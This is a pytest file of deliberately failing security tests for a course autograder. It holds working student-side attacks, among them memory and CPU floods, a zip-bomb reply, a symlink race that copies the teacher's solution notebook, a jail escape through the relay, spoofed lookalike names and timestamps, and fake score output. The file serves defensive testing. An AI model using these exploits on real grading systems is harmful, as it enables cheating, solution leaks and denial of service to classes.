"""Attacks on the grading pipeline that work on the current code (each test fails until it is fixed).

Fifth round, by a student who read autograder/ and README "Grading guarantees", aimed at what
changed since the fourth: the relay between a grading kernel's jail and the grader, the course's
own `nbgrader collect`, the refusal of odd ids, printable text, the answer check's results total,
`grade`'s early answer check and the jails' cgroups. Each test names the attack, says what it does
and what the grader should do instead; each is marked xfail(strict=True) until the lead fixes it
(then the mark goes).
"""
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from autograder.course import REPO_ROOT
from autograder.isolation import jail
from test_attacks_found_4 import _grade_peak, _grade_raising

needs_jail = pytest.mark.skipif(not jail.available(), reason=f"no jail here: {jail.unavailable_reason()}")
ASSIGNMENT = STEM = "part1_subimages"
COURSE_ID = "convolution-course"


@needs_jail
def test_many_kernel_messages_just_under_the_bound_pile_up_in_the_graders_memory(tmp_path):
    """(resources) Round 4's relay ends the kernel at the first message whose frames pass 64 MB,
    and README says "one too large for the relay to take in never reaches the grader". It bounds
    each message, not how many: a cell packs one 50 MB `stream` content once and sends it again
    and again (`kernel.session.send(iopub, 'stream', content=<bytes>)`: jupyter_client signs
    already-packed bytes as they are, so each send costs the kernel one HMAC, and its memory does
    not grow). The relay forwards each one at once (zero-copy), and libzmq's I/O thread in the
    grading process takes each in as it arrives, up to the SUB socket's high-water mark of 1000
    messages (1000 x 64 MB); nbclient decodes them one by one, far slower (HMAC, a copy, the
    container count, UTF-8 and JSON, then the output cap drops it). 40 messages (2 GB) make the
    grading process of `python -m autograder grade` (about 200 MB without them) hold about 2 GB;
    a few hundred, within one cell's 60 s, take a worker (or `grade`) past the machine's memory.
    The relay should bound what waits on the grader's side: a small SNDHWM on its PUB and RCVHWM
    on the grader's sockets (a PUB drops past it), or a total of output bytes per cell in the
    relay (it already counts each message) past which it ends the kernel."""
    report, peak = _grade_peak(tmp_path, "k = get_ipython().kernel\n"
                                          "import json\n"
                                          "content = json.dumps({'name': 'stdout', 'text': 'x' * (50 * 1024 ** 2)}).encode()\n"
                                          "for i in range(40):\n"
                                          "    k.session.send(k.iopub_socket, 'stream', content=content, parent=k.get_parent())\n")
    assert peak < 1000, f"the grading process held {peak} MB of queued kernel messages"
    assert all("more messages than a notebook may send in all" in e["feedback"] for e in report["exercises"]), \
        "the feedback says why the kernel was stopped"


@needs_jail
def test_messages_on_the_stdin_channel_wait_unread_in_the_graders_memory(tmp_path):
    """(resources) The relay forwards every channel both ways, stdin included, and the grader's
    client connects a stdin socket it never reads (nbclient runs with allow_stdin off: no
    input_request is ever answered, or taken). The kernel's stdin socket is a ROUTER the student's
    code can reach (`kernel.stdin_socket`), and the route back to the grader is the one its last
    request came by (`kernel._parent_ident['shell']`: the relay's identity, then the grader's,
    which is the same on every channel). A cell that sends the same 50 MB frame there 20 times
    (zero-copy: the kernel's memory and CPU hardly move) puts 1 GB into the grading process,
    where it stays, unread, until the kernel is shut down: libzmq's I/O thread takes in up to
    1000 messages (1000 x 64 MB) on that socket whatever Python does. No cell fails, nothing is
    flagged, and the notebook earns full marks; a few hundred such sends take a worker (or
    `grade`) past the machine's memory. The relay should forward from the kernel only what the
    grader reads (iopub, shell and control replies, hb echoes), or bound what may wait on each
    of the grader's sockets (RCVHWM, and its own SNDHWM)."""
    report, peak = _grade_peak(tmp_path, "k = get_ipython().kernel\n"
                                          "big = b'x' * (50 * 1024 ** 2)\n"
                                          "for i in range(20):\n"
                                          "    k.stdin_socket.send_multipart(list(k._parent_ident['shell'])\n"
                                          "                                  + [b'<IDS|MSG>', b'', b'{}', b'{}', b'{}', big])\n")
    assert peak < 700, f"the grading process held {peak} MB of unread stdin messages"


def _cpu_seconds(pid: int) -> float:
    """CPU time (user and system, all threads) process `pid` has used so far; 0 once it is gone."""
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    except OSError:
        return 0.0
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def _cpu_cgroup(proc: Path) -> str:
    """The cgroup of process folder `proc` that holds its CPU quota (v1 "cpu", else v2)."""
    lines = [line.split(":", 2) for line in (proc / "cgroup").read_text().splitlines()]
    return next((path for _, controllers, path in lines if "cpu" in controllers.split(",")),
                next((path for number, _, path in lines if number == "0"), ""))


@needs_jail
def test_a_kernel_makes_its_relay_use_a_second_core_outside_the_jails_quota(tmp_path):
    """(starves the class) README: each jail has "its share of the machine (one core for all its
    processes together, a cgroup CPU quota)". The kernel launcher forks: the child joins the
    jail's cgroup and becomes bwrap, the parent stays outside as the relay, with a memory limit of
    its own and no CPU bound, and does Python work for every message the kernel sends (poll,
    recv_multipart, the size check, send_multipart, waitpid). A cell that sends tiny messages as
    fast as it can (here on the stdin channel, which the grader never reads: the relay's ROUTER
    drops them once the grader's socket is full, so only the relay works) keeps its relay busy on
    a core of its own: the notebook's kernel gets two cores, the jail's and the relay's, for its
    cell time (60 s; 180 s per notebook). With `--jobs 2` on a two-core server, every classmate's
    kernel and answer check then share what is left: their cell and step limits, and the timed
    im_conv_fast (clocked against a loop measured before the flood began), fail honest code.
    Here the relay uses about a whole core during a 6 s flood (the test asks for less than a
    quarter of one, or the relay in its jail's CPU cgroup). The relay should count against the
    jail's CPU: run it in the jail's cgroup (or a cgroup of its own with the same quota), or
    bound the messages it takes per second."""
    import nbformat
    from nbformat.v4 import new_code_cell
    flood = ("import time\n"
             "k = get_ipython().kernel\n"
             "frames = list(k._parent_ident['shell']) + [b'<IDS|MSG>', b'', b'{}', b'{}', b'{}', b'{}']\n"
             "end = time.time() + 6\n"
             "while time.time() < end:\n"
             "    for _ in range(100):\n"
             "        k.stdin_socket.send_multipart(frames)\n")
    nb = nbformat.read(REPO_ROOT / "notebooks" / ASSIGNMENT / f"{STEM}.ipynb", as_version=4)
    nb.cells.insert(1, new_code_cell(flood))
    nbformat.write(nb, tmp_path / f"{STEM}.ipynb")
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
    grading = subprocess.Popen([sys.executable, "-m", "autograder", "grade", f"{STEM}.ipynb", "--json", "--seed", "1"],
                               cwd=tmp_path, env=env, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    relays = {}  # the kernel launcher's pid (the relay, once bwrap is forked): its CPU seconds
    shared = set()  # launchers seen in the CPU cgroup of their jail (bwrap, their child)
    try:
        while grading.poll() is None:
            table = {}
            for proc in Path("/proc").iterdir():
                try:
                    table[int(proc.name)] = ((proc / "cmdline").read_bytes(), int((proc / "stat").read_text()
                                             .rsplit(")", 1)[1].split()[1]), _cpu_cgroup(proc))
                except (OSError, ValueError):
                    continue
            for pid, (command, _, cgroup) in table.items():
                if b"autograder.isolation.kernel_launcher" in command:
                    relays[pid] = max(relays.get(pid, 0.0), _cpu_seconds(pid))
                    if any(parent == pid and b"bwrap" in child and group == cgroup
                           for child, parent, group in table.values()):
                        shared.add(pid)
            time.sleep(0.2)
        report = json.loads(grading.stdout.read())
    finally:
        grading.kill()
        grading.wait()
    assert report["exercises"] and relays, "grade ran its notebook in a jailed kernel"
    busiest = max(relays, key=relays.get)
    assert busiest in shared or relays[busiest] < 1.5, \
        f"the relay used {relays[busiest]:.1f} s of CPU during a 6 s flood, outside its jail's CPU cgroup"


# A zip whose STORED members overlap ("quoted overlap", Fifield's non-recursive zip bomb without
# compression): member i's data is the local headers of members i+1.. and then a shared tail, so
# every member is smaller than the whole reply, and n members read back as about n x the tail plus
# n^2/2 headers. A real __tree__.npy follows, so that the reply decodes to an ordinary result.
OVERLAPPING_REPLY = r"""
import io, json, os, struct, sys, zlib
import numpy as np
from autograder.isolation import channel

def _local(name, data):
    return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, zlib.crc32(data), len(data),
                       len(data), len(name), 0) + name

def overlapping_reply(members, tail):
    names = [b"m%d" % i for i in range(members)]
    datas, headers, data = [None] * members, [None] * members, tail
    for i in reversed(range(members)):
        datas[i], headers[i] = data, _local(names[i], data)
        data = headers[i] + data
    offsets, position = [], 0
    for header in headers:
        offsets.append(position)
        position += len(header)
    tree = json.dumps({"__dict__": [["value", {"__int__": "7"}], ["error", None], ["mutated", None]]}).encode()
    buffer = io.BytesIO()
    np.save(buffer, np.frombuffer(tree, dtype=np.uint8))
    npy, tree_offset = buffer.getvalue(), len(data)
    entries = list(zip(names, datas, offsets)) + [(b"__tree__.npy", npy, tree_offset)]
    body = data + _local(b"__tree__.npy", npy) + npy
    central = b"".join(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, zlib.crc32(d), len(d),
                                   len(d), len(name), 0, 0, 0, 0, 0, offset) + name for name, d, offset in entries)
    return body + central + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries),
                                        len(central), len(body), 0)

def probe():
    channel.send(int(sys.argv[2]), overlapping_reply(2000, b"k" * 100_000))
    os._exit(0)
"""


@needs_jail
def test_a_reply_of_overlapping_zip_members_decodes_to_a_thousand_times_its_bytes():
    """(resources) A reply from the answer check is bounded before it is decoded: at most 256 MB,
    at most 10,000 members, each STORED (not compressed) and no larger than the reply itself; and
    the results of one notebook count against `results_bytes` by their bytes on the wire
    (`last_reply_bytes`). But zip members may overlap: member i's data can be the local headers
    of members i+1.. followed by one shared tail, so each member passes the size check while all
    of them together are n times the reply (Fifield's "better zip bomb", with no compression
    at all). `codec.loads` lets np.load read every member (one that is not .npy is returned as
    bytes) before it looks at the tree, so the student's function, which writes its own reply on
    the check's pipe (`channel.send(int(sys.argv[2]), …)`, as round one's attack did), makes the
    grader hold n x the tail: here a 0.3 MB reply takes about 270 MB; 10,000 members over a 1 MB
    tail (a 1.5 MB reply, far under results_bytes) about 11 GB, on every call of every case.
    Python refuses such "overlapped entries" only from 3.11.8/3.12.2 on (CVE-2024-0450), and
    this machine's 3.11.7 does not. loads should read only the members the tree names, and refuse
    an archive whose members' sizes add up to more than the reply (or whose entries overlap)."""
    import tracemalloc
    from autograder.exercises.spec import Case
    from autograder.isolation.sandbox import Limits, run_solution_cells
    tracemalloc.start()
    try:
        run = run_solution_cells([("c", OVERLAPPING_REPLY)], [("probe", "function")], {"probe": [Case()]},
                                 Limits(seconds_per_step=60))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert run.outcomes.get("probe") or run.failures.get("probe"), "the check ran the probe"
    assert peak < 100 * 1024 ** 2, f"decoding a reply of about 0.3 MB took {peak / 1024 ** 2:.0f} MB"


@needs_jail
def test_grade_prints_a_fake_table_of_full_marks_from_an_error_message_made_of_line_breaks(tmp_path):
    """(score shown higher) Round 4's fix (pipeline/printable) writes control characters from a
    student's code as escapes, but keeps line breaks and tabs. `grade` prints its table, then the
    feedback of each failing exercise, which quotes what the answer raised: a ValueError whose
    message is 80 line breaks and then a table of full marks scrolls the real table off the
    screen and leaves "total 6/6" as the last thing the terminal shows, for a notebook earning
    3/6 (the exit code still says 1; grades.json and flags.csv hold the same lines). README names
    `grade` as the teacher's way to grade one notebook too. Text quoted from a student's code
    should be one line (line breaks written as \\n), or indented and cut to a few lines, so that
    it can never look like the grader's own lines."""
    fake = ("\\n" * 80 + "part1_subimages (cases from seed 1; repeat with --seed 1)\\nexercise                score\\n"
            "----------------------------------\\ntest_conv_output_shape  2/2  ok\\ntest_SUBIMAGE_OPTION    1/1  ok\\n"
            "test_get_subimages      3/3  ok\\n----------------------------------\\ntotal                   6/6\\n")
    done = _grade_raising(tmp_path, fake)
    assert done.returncode == 1, done.stderr[-2000:]
    totals = [line for line in done.stdout.splitlines() if line.startswith("total")]
    assert totals == [totals[0]] and "6/6" not in totals[0], f"grade printed the totals {totals}"
    assert done.stdout.rstrip().splitlines()[-1].startswith("score 3/6"), "the real total is the last line"


@needs_jail
def test_the_relay_follows_a_link_in_the_jails_socket_folder_to_a_unix_socket_outside(tmp_path):
    """(leaves the jail) A jail has no network, and the kernel's sockets are in a folder of its
    own (`<folder>-jail`), which is the one folder of the machine it may write. The relay, outside
    the jail with the grader's rights (root where grading runs as root), connects to the paths
    `<folder>-jail/k-<port>` and, as libzmq does, connects again whenever a connection drops,
    resolving the path anew. The kernel may replace its own socket file with a symbolic link:
    a cell unlinks `k-<stdin port>`, links it to any path of the machine and closes its stdin
    socket; within 100 ms the relay connects to whatever unix socket the link names (another
    grading kernel's, a service's under /run) and speaks ZMTP to it, forwarding the grader's
    stdin messages there. Here a socket the test listens on outside the jail receives the
    relay's ZMTP greeting. The relay should connect once, to sockets it has checked (lstat:
    S_ISSOCK, not a link) before any student code ran, and never reconnect (ZMQ_RECONNECT_IVL
    -1: a dropped channel is a dead kernel), or reach the kernel by a path the jail cannot change."""
    import socket
    import threading
    outside = tmp_path / "outside.sock"
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(str(outside))
    listener.listen(1)
    listener.settimeout(120)
    greeted = []

    def accept():
        try:
            connection, _ = listener.accept()
            connection.settimeout(5)
            greeted.append(connection.recv(64))
            connection.close()
        except OSError:
            pass

    waiting = threading.Thread(target=accept, daemon=True)
    waiting.start()
    try:
        _grade_peak(tmp_path, "import json, os, time\n"
                              "k = get_ipython().kernel\n"
                              "info = json.load(open(k.parent.connection_file))\n"
                              "path = f\"{info['ip']}-{info['stdin_port']}\"\n"
                              "os.unlink(path)\n"
                              f"os.symlink({str(outside)!r}, path)\n"
                              "k.stdin_socket.close(linger=0)\n"
                              "time.sleep(2)\n")
        waiting.join(timeout=5)
    finally:
        listener.close()
    assert not greeted, f"the relay connected to {outside}, outside the jail, and sent {greeted[0][:10]!r}"


COLLECT_WITH_A_SWAP = """
import os, sys
from pathlib import Path
from nbgrader.apps import CollectApp
from autograder.pipeline.course_collect import CourseCollect

root, exchange, target = map(Path, sys.argv[1:4])
copy = CourseCollect.do_copy

def copy_after_the_swap(self, src, dest, log=None):
    # mallory's loop in her own inbound folder (she owns it: the exchange is 1777), at the
    # moment it matters: after the course's check, before the copy.
    notebook = Path(src) / "{stem}.ipynb"
    link = Path(src) / ".swap"
    link.symlink_to(target)
    os.rename(link, notebook)
    return copy(self, src, dest, log)

if target.name:
    CourseCollect.do_copy = copy_after_the_swap
app = CollectApp()
app.initialize(["{assignment}", f"--Exchange.root={{exchange}}", f"--CourseDirectory.root={{root}}",
                "--CourseDirectory.course_id={course}",
                "--ExchangeFactory.collect=autograder.pipeline.course_collect.CourseCollect", *sys.argv[4:]])
app.start()
""".format(stem=STEM, assignment=ASSIGNMENT, course=COURSE_ID)


def _inbound(exchange: Path, name: str, notebook: str) -> Path:
    """A folder `name` in the exchange's inbound/ (world-writable: anyone can make one), as
    `nbgrader submit` leaves it."""
    inbound = exchange / COURSE_ID / "inbound"
    inbound.mkdir(parents=True, exist_ok=True)
    for path in (exchange, exchange / COURSE_ID, inbound):
        path.chmod(0o1777)
    folder = inbound / name
    folder.mkdir()
    (folder / f"{STEM}.ipynb").write_text(notebook)
    (folder / "timestamp.txt").write_text("2026-11-30 10:00:00.000000 UTC")
    return folder


def _collect(root: Path, exchange: Path, swap_in: Path = Path(""), one_uid: bool = True) -> subprocess.CompletedProcess:
    """`nbgrader collect` with the course's collect (as a course folder's configuration sets it),
    for course folder `root`; with `swap_in`, each submission's notebook becomes a link to it
    after the course's check, before nbgrader copies it. With `one_uid`, as on a hub whose
    students share one uid (the test's own, here): the ids are the hub's, not the owners'."""
    shared = ["--CourseCollect.owner_must_be_student=False"] if one_uid else []
    return subprocess.run([sys.executable, "-c", COLLECT_WITH_A_SWAP, str(root), str(exchange), str(swap_in), *shared],
                          cwd=root, capture_output=True, text=True, timeout=300,
                          env={**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"})


def test_a_link_swapped_in_after_the_collect_check_brings_the_reference_into_submitted(tmp_path):
    """(score higher, leak) The course's collect (pipeline/course_collect.CourseCollect) checks
    every submission of the class in `_path_to_record` (init_src: no link, plain files, the right
    owner), then copies them one by one in `copy_files` with nbgrader's `do_copy`, whose
    shutil.copytree follows links with the teacher's rights. Between the two the inbound folder is
    still the student's own (she made it; the exchange is world-writable with the sticky bit, so
    she may rename what is in it): a loop that renames a link to the teacher's source notebook
    over her notebook and back (each rename is atomic; the window is every other student's copy
    long) wins the race often. Collect then writes the teacher's notebook into
    submitted/mallory/ as a plain file, which autograde's refusal accepts (it sees no link) and
    grades as her work: the reference with every solution (full marks), or any file the teacher
    can read (class-secret). Here the swap is done at the worst moment, as the loop would.
    Collect should copy what it checked: copy with links kept as links (copytree(symlinks=True),
    or open each file with O_NOFOLLOW) and check the copy in submitted/ again, not the inbound
    folder before."""
    root, exchange = tmp_path / "course", tmp_path / "exchange"
    root.mkdir()
    source = (REPO_ROOT / "notebooks" / ASSIGNMENT / f"{STEM}.ipynb").read_text()
    _inbound(exchange, f"mallory+{ASSIGNMENT}+2026-11-30 10:00:00.000000 UTC+m1",
             source.replace("BEGIN SOLUTION", "her own answer"))
    reference = root / "source" / ASSIGNMENT / f"{STEM}.ipynb"  # the teacher's, with solutions
    reference.parent.mkdir(parents=True)
    reference.write_text(source)
    done = _collect(root, exchange, reference)
    collected = root / "submitted" / "mallory" / ASSIGNMENT / f"{STEM}.ipynb"
    assert done.returncode == 0, done.stderr[-2000:]
    from autograder.classroom.intake import student_folder_problem
    accepted = collected.exists() and not student_folder_problem(collected.parent.parent, "mallory")
    assert not (accepted and "BEGIN SOLUTION" in collected.read_text()), \
        "submitted/mallory holds the teacher's source notebook as a plain file, and autograde accepts it"
    assert accepted or "not collected" in done.stderr, "a refusal is said"


def test_a_folder_in_the_exchange_with_no_timestamp_stops_the_collect_of_the_class(tmp_path):
    """(stops the class) The course's collect refuses odd ids, links and folders of the wrong
    owner, but only in `_path_to_record` after nbgrader's own, which parses the third part of
    the folder's name as a time (`parse_utc(filename.rsplit('+', 3)[2])`) and raises on anything
    else. Anyone can `mkdir 'aaron+part1_subimages+soon'` in the world-writable inbound/ (aaron
    need not exist): `nbgrader collect part1_subimages` then stops with dateutil's ParserError
    before it copies anything, for the whole class, on every run, and the teacher (not root) may
    not remove the folder (the sticky bit leaves it to its owner). The course's collect should
    refuse (and say) a folder whose name does not parse, and collect the rest."""
    root, exchange = tmp_path / "course", tmp_path / "exchange"
    root.mkdir()
    released = (REPO_ROOT / "notebooks" / ASSIGNMENT / f"{STEM}.ipynb").read_text()
    _inbound(exchange, f"aaron+{ASSIGNMENT}+soon", released)
    for student in ("ben", "zoe"):
        _inbound(exchange, f"{student}+{ASSIGNMENT}+2026-11-30 10:00:00.000000 UTC+{student}1", released)
    done = _collect(root, exchange)
    missing = [s for s in ("ben", "zoe") if not (root / "submitted" / s / ASSIGNMENT / f"{STEM}.ipynb").exists()]
    assert not missing, f"not collected: {missing}; {done.stderr[-300:]}"


def test_a_student_submits_under_a_lookalike_of_a_classmates_name(tmp_path):
    """(another student's name on one's work) README: the course's collect takes a submission
    "only if … where students are users of the machine, its folder belongs to the student it
    names". `submission_problem` compares the folder's owner with the id only when the id is a
    user (`pwd.getpwnam`); any other plain id is taken from anyone. PLAIN_NAME accepts Unicode
    letters, a trailing space, any case: on a hub whose students are users, mallory makes
    `inbound/dаemon+part1_subimages+…` (a Cyrillic а) or `daemon +…` or `Daemon+…`, and it is
    collected, graded and shown in formgrader, grades.csv and the feedback as a student who
    reads as her classmate daemon (nbgrader's own collect would at least have warned "cheating
    attempt?": the owner's name is not the id). Here the user nobody stands for mallory and the
    user daemon for her classmate. Where students are users of the machine, the collect should
    take a folder only if its owner's user name is the id (and refuse, saying so, ids no user
    has), with a setting for hubs whose students share one uid."""
    if os.geteuid() != 0:
        pytest.skip("giving a folder to another user of the machine needs root")
    root, exchange = tmp_path / "course", tmp_path / "exchange"
    root.mkdir()
    released = (REPO_ROOT / "notebooks" / ASSIGNMENT / f"{STEM}.ipynb").read_text()
    lookalike = "d\u0430emon"  # Cyrillic а: reads as the user daemon
    folder = _inbound(exchange, f"{lookalike}+{ASSIGNMENT}+2026-11-30 10:00:00.000000 UTC+m1", released)
    for path in (folder, *folder.iterdir()):
        os.lchown(path, 65534, 65534)  # nobody: mallory, another user of the machine
    done = _collect(root, exchange, one_uid=False)
    assert done.returncode == 0, done.stderr[-2000:]
    taken = (root / "submitted" / lookalike / ASSIGNMENT / f"{STEM}.ipynb").exists()
    assert not taken, f"nobody's folder was collected as the student {lookalike!r}"


def test_a_file_name_that_is_not_utf8_stops_the_class_before_its_flags_and_report(tmp_path):
    """(stops the class) A Linux file name is bytes: a student can hand in `notes\\xff.txt` (a
    JupyterLab terminal: touch $'notes\\xff.txt'; nbgrader submit and collect copy names as they
    are). Python lists it as 'notes\\udcff.txt' (a lone surrogate), read_submission flags it
    ("extra file … was ignored", without repr) and `printable` lets the surrogate through (it is
    no control character). `write_csvs` then writes flags.csv as UTF-8 and raises
    UnicodeEncodeError at that row: `autograde` ends with a traceback, every flag after it (the
    rest of the class: suspicious code, shortcuts, refused submissions, limits) is missing from
    flags.csv, and the class report (report.html, mistakes.csv) is never written. The same text
    reaches grade's stderr and the course collect's messages. Text from a submission should be
    made encodable where it is taken in (os.fsdecode's surrogates written as escapes, e.g.
    `printable` escaping \\ud800-\\udfff, or names shown with repr), and the CSV writers should
    never stop the class (errors="backslashreplace")."""
    from autograder.classroom.autograde import autograde_class
    submissions, out = tmp_path / "submissions", tmp_path / "out"
    for student in ("aaron", "zed"):
        (submissions / student / ASSIGNMENT).mkdir(parents=True)
    Path(os.fsdecode(os.path.join(os.fsencode(submissions / "aaron" / ASSIGNMENT), b"notes\xff.txt"))).write_text("hi")
    (submissions / "zed" / ASSIGNMENT / "notes.txt").write_text("hi")
    try:
        autograde_class(submissions, out, jobs=1, progress=False, secret=b"attack secret")
    except UnicodeEncodeError as exc:
        pytest.fail(f"autograde stopped: {exc}")
    flags = (out / "flags.csv").read_text()
    assert "zed" in flags and (out / "report.html").exists(), "the class's flags and report were written"
    assert "notes\\udcff.txt" in flags, "the name that is not UTF-8 is flagged, written as an escape"


SHARED_ARRAY_REPLY = r"""
import io, json
import numpy as np
from autograder.isolation import codec

_dumps = codec.dumps

def _shared(reply):
    # Every call's reply (the check's process sends codec.dumps(reply)): one small array (1000
    # records of 50 one-byte fields, 50 KB) that the tree names 100 times.
    if "value" not in reply:
        return _dumps(reply)
    records = np.zeros(1000, dtype=[("f%d" % i, "i1") for i in range(50)])
    tree = {"__dict__": [["value", {"__list__": [{"__array__": "a0"}] * 100}], ["error", None], ["mutated", None]]}
    buffer = io.BytesIO()
    np.savez(buffer, __tree__=np.frombuffer(json.dumps(tree).encode(), dtype=np.uint8), a0=records)
    return buffer.getvalue()

codec.dumps = _shared

def probe():
    return 0
"""


@needs_jail
def test_a_wrong_result_naming_one_array_many_times_costs_the_grader_gigabytes_to_describe():
    """(resources, holds the class) A reply is bounded in bytes, members and tree size (2 MB),
    and results in total by their bytes on the wire; but the tree may name one array any number
    of times, and decoding shares it (no copy), so a list of 100,000 references costs 2 MB (the
    answer cell replaces `codec.dumps` in the check's process, which sends every reply with it:
    each call of every case gets such a reply, and the check carries on). The
    judge then compares it with the expected array: `values_differ` says "should be a numpy
    array, got " + `_describe(got)`, and _describe is `repr(value)[:200]`: the whole repr is
    built before it is cut. numpy prints up to 1000 elements of an array in full; 1000 records
    of 50 fields print as 160 KB, in about 60 ms of the grader's Python. So one case's reply of
    about 2 MB (100,000 references to a 50 KB array) is described as 16 GB of text, for two
    hours, in the grading process (no step limit applies to the judge), and `judge` does it for
    every case, and again in the recognisers and the points per group; a worker runs until its
    submission time (16 minutes) is up, `grade` for hours, and the memory runs out first. Here
    100 references (a 55 KB reply) take seconds. A wrong result should be described without
    building its whole repr (its type and length, reprlib, or numpy's repr of a few items)."""
    import time
    import numpy as np
    from autograder.exercises import get_exercise
    from autograder.exercises.compare import values_differ
    from autograder.exercises.spec import Case
    from autograder.isolation.sandbox import Limits, run_solution_cells
    run = run_solution_cells([("c", SHARED_ARRAY_REPLY)], [("probe", "function")], {"probe": [Case()]},
                             Limits(seconds_per_step=60))
    [outcome] = run.outcomes["probe"]
    assert isinstance(outcome.value, list) and len(outcome.value) == 100, "the reply decoded to the shared list"
    started = time.perf_counter()
    problem = values_differ(np.zeros((3, 3)), outcome.value, get_exercise("im_conv"))
    took = time.perf_counter() - started
    assert problem and took < 1.0, f"describing one wrong result of a 55 KB reply took {took:.1f} s"


def test_a_late_submission_made_by_hand_claims_a_time_before_the_due_date(tmp_path):
    """(score higher) The time of a submission is what its folder's name and timestamp.txt say,
    and both are written by the student (`nbgrader submit` runs as the student; inbound/ is
    world-writable, so she can also make the folder by hand). The course's collect checks the id,
    the files and the owner, not the time: a folder made a day after the due date, named and
    stamped a month earlier, is collected as on time, and nbgrader's late penalty (the pipeline's
    AssignLatePenalties; a teacher sets `LateSubmissionPlugin.penalty_method = "zero"`) and
    formgrader's "late" mark never see it. The one time a student cannot set is the folder's
    ctime (the kernel's): the collect should refuse (or re-stamp) a submission whose claimed time
    is earlier than the folder's ctime, beyond a small tolerance."""
    root, exchange = tmp_path / "course", tmp_path / "exchange"
    root.mkdir()
    released = (REPO_ROOT / "notebooks" / ASSIGNMENT / f"{STEM}.ipynb").read_text()
    claimed = "2026-10-31 10:00:00.000000 UTC"
    folder = _inbound(exchange, f"mallory+{ASSIGNMENT}+{claimed}+m1", released)
    (folder / "timestamp.txt").write_text(claimed)
    made = os.stat(folder).st_ctime
    done = _collect(root, exchange)
    assert done.returncode == 0, done.stderr[-2000:]
    stamp = root / "submitted" / "mallory" / ASSIGNMENT / "timestamp.txt"
    assert stamp.exists(), f"not collected: {done.stderr[-2000:]}"
    assert "collected as made then" in done.stderr, "the new time is said"
    from nbgrader.utils import parse_utc
    from datetime import timezone
    taken = parse_utc(stamp.read_text().strip()).replace(tzinfo=timezone.utc).timestamp()
    assert taken > made - 3600, f"collected as made at {stamp.read_text().strip()}, " \
                                f"{(made - taken) / 86400:.0f} days before its folder existed"


def test_a_grades_json_shipped_in_a_submission_stops_the_class_report(tmp_path):
    """(stops the class report) Round 4 made the report read a grades.json only for the student
    and assignment of its own folder. But in a course folder plain `nbgrader autograde` and
    `generate_feedback` (README: they work there) copy every file of a submission but notebooks
    from submitted/ to autograded/ to feedback/, replacing what is there: mallory's own
    feedback/mallory/part1_subimages/grades.json is then the one she shipped, and she names her
    own mistakes. The report draws each mistake name as a bar's label with matplotlib, which reads
    text between two $ as mathtext: a mistake named `$\\undefinedmacro$` makes the drawing raise
    ParseFatalException, and `python -m autograder report` (or the report at the end of
    `autograde`) writes no report for the whole class, on every run while her file is there (a
    few hundred thousand distinct names within the 4 MB would make the chart taller than
    matplotlib can draw, to the same end). The report should take only the mistake names the
    exercise's catalogue knows, and draw labels as plain text (parse_math=False)."""
    from autograder.report import write_report
    rows = ["student,assignment,notebook,exercise,score,max_score"]
    rows += [f"{student},{ASSIGNMENT},{STEM},test_get_subimages,{score},3"
             for student, score in (("alice", 3), ("bob", 0), ("mallory", 0))]
    (tmp_path / "grades.csv").write_text("\n".join(rows) + "\n")
    for student, mistakes in (("bob", ["flipped kernel"]), ("mallory", ["$\\undefinedmacro$"])):
        folder = tmp_path / "feedback" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        (folder / "grades.json").write_text(json.dumps([{"student": student, "assignment": ASSIGNMENT,
                                                         "exercise": "test_get_subimages", "mistakes": mistakes,
                                                         "failing_case": ""}]))
    html, _ = write_report(tmp_path)
    assert html.exists()
    assert "undefinedmacro" not in html.read_text(), "a mistake name the catalogue does not know is not reported"


def test_a_large_sparse_file_in_the_exchange_stops_the_collect_of_the_class(tmp_path):
    """(stops the class) nbgrader's `do_copy` adds up the sizes of a submission's files and raises
    RuntimeError("Directory size is too big") past `max_dir_size` (100 MB); `copy_files` does not
    catch it, so `nbgrader collect` stops at that student, and nobody after her (in the order
    the inbound folder lists them) is collected, on every run, until she removes her folder (the
    sticky bit leaves it to her). The file costs nothing: `truncate -s 200M notes.bin` in her own
    folder makes a sparse file of 200 MB holding no disk block, a plain file that the course's
    checks accept. The course's collect should refuse (and say) a submission past the size
    nbgrader will copy, and carry on with the rest of the class whatever one submission raises."""
    root, exchange = tmp_path / "course", tmp_path / "exchange"
    root.mkdir()
    released = (REPO_ROOT / "notebooks" / ASSIGNMENT / f"{STEM}.ipynb").read_text()
    folders = {student: _inbound(exchange, f"{student}+{ASSIGNMENT}+2026-11-30 10:00:00.000000 UTC+{student}1", released)
               for student in ("aaron", "ben", "zoe")}
    with open(folders["aaron"] / "notes.bin", "wb") as sparse:
        sparse.truncate(200 * 1024 ** 2)
    done = _collect(root, exchange)
    missing = [s for s in ("ben", "zoe") if not (root / "submitted" / s / ASSIGNMENT / f"{STEM}.ipynb").exists()]
    # (which students are lost depends on the order the folder lists them; the collect fails either way)
    assert done.returncode == 0 and not missing, f"not collected: {missing}; {done.stderr[-300:]}"
